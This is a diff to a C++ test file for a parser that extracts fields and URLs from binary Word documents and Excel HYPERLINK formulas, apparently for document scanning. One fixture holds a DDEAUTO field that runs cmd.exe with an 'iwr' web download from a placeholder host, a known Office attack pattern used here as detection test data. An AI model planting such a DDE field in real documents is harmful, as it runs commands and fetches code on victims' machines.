@@ -76,7 +76,8 @@ TEST_CASE("fields of binary Word documents") {
         "field 4 ooxml:field http://a/x.xls"}},
       {"commands",
        {field("DDEAUTO c:\\\\cmd.exe \"/k iwr http://a/x\"", "") + field("DDE x \"y 'http://b/'\"", "")},
-       {"field 1 ooxml:field http://a/x", "field 2 ooxml:field http://b/"}},
+       {"field 1 ooxml:field c:\\cmd.exe", "field 1 ooxml:field http://a/x",
+        "field 2 ooxml:field http://b/"}},
       {"fields in codes and results",
        {"\x13HYPERLINK \"" + field("QUOTE 104 116 116 112", "x") + "://a/\"\x14" +
         field("INCLUDEPICTURE http://b/", "x") + "y\x15"},
@@ -183,8 +184,25 @@ TEST_CASE("the function HYPERLINK in formulas of Excel") {
   CHECK(in_excel("", formula(number(0x19, 1) + number(0x40, 1) + number(0, 2) + cell + url + one +
                              number(0x42, 1) + number(2, 1) + number(1, 2))) == plain);
   // Computed, of another function, and a place in the workbook.
-  CHECK(in_excel("", formula(url + label + concatenated + one)) == Rows{});
-  CHECK(in_excel("", formula(url + cell + cell + concatenated + two)) == Rows{});
+  CHECK(in_excel("", formula(url + label + concatenated + one)) ==
+        Rows{"Data!A1 ooxml:formula http://a/a  b"});
+  CHECK(in_excel("", formula(url + cell + cell + concatenated + two)) == plain);
+  const auto call = [](int function, int count) {
+    return number(0x42, 1) + number(static_cast<std::uint64_t>(count), 1) +
+           number(static_cast<std::uint64_t>(function), 2);
+  };
+  const std::string character = number(0x1E, 1) + number(104, 2) + number(0x41, 1) + number(111, 2);
+  CHECK(in_excel("", formula(character + formula_string("ttp://") + formula_string("b/") + call(336, 3) +
+                             one)) == Rows{"Data!A1 ooxml:formula http://b/"});
+  CHECK(in_excel("", formula(cell + url + formula_string("http://b/") + call(1, 3) + label + two)) ==
+        Rows{"Data!A1 ooxml:formula http://a/ =a b", "Data!A1 ooxml:formula http://b/ =a b"});
+  CHECK(in_excel("", formula(url + cell + concatenated + label + two)) == labelled);
+  // The value that was saved, where the address is not known.
+  const std::string saved = record(0x0207, number(9, 2) + number(0, 1) + "http://c/"),
+                    no_url = record(0x0207, number(1, 2) + number(0, 1) + "x");
+  CHECK(in_excel("", formula(cell + one) + saved) == Rows{"Data!A1 ooxml:formula http://c/"});
+  CHECK(in_excel("", formula(cell + one) + no_url + saved) == Rows{});
+  CHECK(in_excel("", formula(cell + label + two) + saved) == Rows{});
   CHECK(in_excel("", formula(url + number(0x42, 1) + number(1, 1) + number(1, 2))) == Rows{});
   CHECK(in_excel("", formula(formula_string("#Sheet2!A1") + one)) == Rows{});
   CHECK(in_excel("", formula(number(0x17, 1) + number(255, 1))) == Rows{});
